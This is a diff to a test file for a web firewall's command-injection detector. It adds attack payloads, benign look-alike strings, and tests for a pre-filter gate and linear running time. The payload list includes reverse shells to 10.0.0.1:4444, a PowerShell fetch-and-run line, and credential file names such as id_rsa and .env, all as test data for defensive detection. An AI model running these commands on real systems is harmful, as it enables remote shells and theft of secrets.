@@ -1,13 +1,15 @@
 /**
  * OS command injection (`src/lib/waf/command.ts`): Unix and Windows payloads in query, form and
  * JSON values are blocked; prose, markdown, lists with pipes and ampersands, and developer
- * snippets pass. Also: values that once made the filter throw (a RegExp built from the value).
+ * snippets pass. Also: values that once made the filter throw (a RegExp built from the value),
+ * and the cheap gate in front of the detector (it must pass every attack, and skip ordinary text).
  */
 // zod-openapi must extend zod before the config schema is built (as src/app.ts does first).
 import "@hono/zod-openapi";
 import { describe, expect, it } from "vitest";
 import { edgeConfigSchema } from "../../src/lib/config/schema.ts";
-import { detectCommand, globMatch } from "../../src/lib/waf/command.ts";
+import { commandGate, detectCommand, globMatch } from "../../src/lib/waf/command.ts";
+import { normalizeValue } from "../../src/lib/waf/normalize.ts";
 import { evaluateRequest, type WafRequest } from "../../src/lib/waf/index.ts";
 
 const DEFAULT = edgeConfigSchema.parse({ security: {} }).security;
@@ -72,6 +74,11 @@ const ATTACKS = [
   ["Invoke-WebRequest http://example.net/x.ps1"],
   [";iex (iwr http://10.0.0.1/x.ps1)"],
   ["& timeout /t 7 &"],
+  // `+` as a space of form encoding around separators; cmd.exe built-ins end at `+`
+  ["+|+Dir+c:\\"],
+  ["&&+|+dir c:/"],
+  ["dir+c:\\"],
+  ["||+dir|c:\\"],
   // reverse shells, launchers, Shellshock, bash-only syntax
   ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
   ["nc -e /bin/sh 10.0.0.1 4444"],
@@ -120,6 +127,10 @@ const BENIGN = [
   ["```bash\nnpm install example-sdk\n```"],
   ["fn main() {\n    let words: Vec<&str> = s.split(' ').collect();\n}"],
   ["Bash tip: use ${VAR:-default} for defaults"],
+  ["C++ | Java | Rust"],
+  ["Great+service;+would+order+again"],
+  ["type+safe builders; dir+layout"],
+  ["a+b;c+d"],
 ] as const;
 
 describe("command injection", () => {
@@ -161,5 +172,49 @@ describe("command injection", () => {
     const boundary = "----b0undary";
     const body = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="wp-config.php.bak"\r\nContent-Type: text/plain\r\n\r\nx\r\n--${boundary}--\r\n`;
     expect(evaluateRequest(req("https://edge.test/upload", body, `multipart/form-data; boundary=${boundary}`), DEFAULT).action).toBe("block");
+  });
+
+  const inspected = (raw: string, where = "body", name = "text") => {
+    const { text, hadNull } = normalizeValue(raw);
+    return { text, lower: text.toLowerCase(), raw, hadNull, field: { kind: "body", name, where, key: name, value: raw } } as const;
+  };
+
+  it("the gate passes every attack (and upload file names), the detector then finds it", () => {
+    for (const [payload] of ATTACKS) {
+      const v = inspected(payload);
+      expect(commandGate(v.text, v.lower), payload).toBe(true);
+      expect(detectCommand(v), payload).not.toBeNull();
+    }
+    // Whole-value commands, obfuscated names and globs without any shell syntax character.
+    for (const payload of ["whoami", "Tasklist", "SYSTEMINFO", "w'h'oami", "ti''me curl coreruleset.org", "bin/cscli", "c?t", "python3.10 -c print(1)", "cmd.exe", "IF EXIST x CMD", "busybox sh", "x cmd /c whoami"]) {
+      expect(commandGate(payload, payload.toLowerCase()), payload).toBe(true);
+    }
+    for (const name of ["wp-config.php.bak", ".htaccess", "mtrr", "id_rsa", "uploads/ .env"]) {
+      const v = inspected(name, "body-filename", "file");
+      expect(commandGate(v.text, v.lower), name).toBe(true);
+      expect(detectCommand(v)?.ruleId, name).toBe("command-restricted-upload");
+    }
+  });
+
+  it("the gate skips ordinary values: prose, titles, tags, ids, dates", () => {
+    const prose = "What kind of garden is best for O'Brien's family? We planted 120 tulips, and they're \"fine\" now. ".repeat(20);
+    for (const value of [prose, "Why doesn't my query return O'Brien's orders?", "garden", "how-to", "note-12", "published", "2026-11-01T00:00:00.000Z", "Flowers bloom when you're having fun.", "user@example.com", "1.2.3"]) {
+      expect(commandGate(value, value.toLowerCase()), value.slice(0, 40)).toBe(false);
+    }
+  });
+
+  it("stays linear on long values with many separators and globs", () => {
+    for (const unit of ["The cat sat; on the mat & ran | away. ", "a;b|c&d`e`$(f) ", "https://x.io/a/b?c=d&e=f ", "/e??/p* [x] {a,b} "]) {
+      const small = inspected(unit.repeat(Math.ceil(2048 / unit.length)));
+      const large = inspected(unit.repeat(Math.ceil(16384 / unit.length)));
+      const time = (v: ReturnType<typeof inspected>) => {
+        const start = performance.now();
+        for (let i = 0; i < 5; i++) detectCommand(v);
+        return performance.now() - start;
+      };
+      time(small);
+      // 8x the input must not cost much more than 8x the time (generous bound: timers are coarse).
+      expect(time(large), unit).toBeLessThan(Math.max(50, 40 * time(small)));
+    }
   });
 });
